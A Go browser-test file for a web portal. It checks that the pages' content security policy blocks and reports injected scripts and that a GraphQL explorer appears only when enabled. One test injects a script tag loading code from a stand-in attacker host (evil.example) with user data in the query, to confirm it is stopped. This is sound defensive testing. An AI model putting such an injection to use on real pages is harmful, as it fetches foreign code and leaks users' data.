package main

import (
	"context"
	"io"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// serveLogged serves as start does, and returns the log as well.
func serveLogged(t *testing.T, args ...string) (*portal, *logbook) {
	t.Helper()
	ctx, cancel := context.WithCancel(t.Context())
	serving, ended := make(chan *url.URL, 1), make(chan int, 1)
	log := &logbook{}
	p := program{stdout: io.Discard, stderr: log, serving: func(base *url.URL) { serving <- base }}
	go func() { ended <- p.run(ctx, append([]string{"--addr=127.0.0.1:0", "--data=" + t.TempDir()}, args...)) }()
	t.Cleanup(func() {
		cancel()
		<-ended
	})
	select {
	case base := <-serving:
		return &portal{base: base}, log
	case status := <-ended:
		ended <- status
		t.Fatalf("did not start, status %d: %s", status, log.String())
		return nil, nil
	}
}

// What a page's policy stops is reported to us by the browser itself.
func TestBrowser_PolicyIsReported(t *testing.T) {
	t.Parallel()
	on, log := serveLogged(t)
	p := startChromium(t).page(t, on)
	p.open("/sign-in?next=/status?q=somebody")
	if _, ok := evaluate[bool](p, `(() => { const s = document.createElement("script"); s.src = "https://evil.example/a.js?who=somebody"; document.head.append(s); return true })()`); !ok {
		t.Fatal("the script was not put in")
	}
	p.await("the report", func() bool { return strings.Contains(log.String(), "a page's policy stopped something") })
	for line := range strings.Lines(log.String()) {
		if strings.Contains(line, "stopped something") && !strings.Contains(line, "directive=script-src-elem blocked=https://evil.example page=/sign-in ") {
			t.Error(line)
		}
		if strings.Contains(line, "somebody") {
			t.Errorf("a query is in the log: %s", line)
		}
	}
	p.mu.Lock()
	defer p.mu.Unlock()
	for _, r := range p.reported {
		if !strings.Contains(r.text, "evil.example") {
			t.Errorf("the browser reports: %s", r.text)
		}
	}
	p.reported = nil // they were meant
}

// The explorer works under the policy of the pages, and is there only when the
// schema is told.
func TestBrowser_Explorer(t *testing.T) {
	t.Parallel()
	on, _ := serveLogged(t, "--introspection")
	p := startChromium(t).page(t, on)
	p.enter("explore@tech.gov.sg", "/explorer")
	p.await("the editor", func() bool { return p.has("button", "Execute query (Ctrl-Enter)") })
	p.click("button", "Execute query (Ctrl-Enter)")
	p.await("the answer", func() bool { return strings.Contains(p.text(), `"email": "explore@tech.gov.sg"`) })
	p.click("button", "Show Documentation Explorer")
	p.await("the schema", func() bool { return strings.Contains(p.text(), "A GraphQL schema provides a root type") })
	if kept, ok := evaluate[float64](p, "localStorage.length"); !ok || kept != 0 {
		t.Errorf("%v things are kept in the browser", kept)
	}
	if dir := os.Getenv(screenshotsEnv); dir != "" {
		p.picture(filepath.Join(dir, "explorer-1440.png"), desktopWidth)
	}
	without, _ := serveLogged(t)
	if got := (ask{method: "GET", path: "/explorer"}).send(t, without.base); got.status != 404 {
		t.Errorf("without introspection: %d", got.status)
	}
}
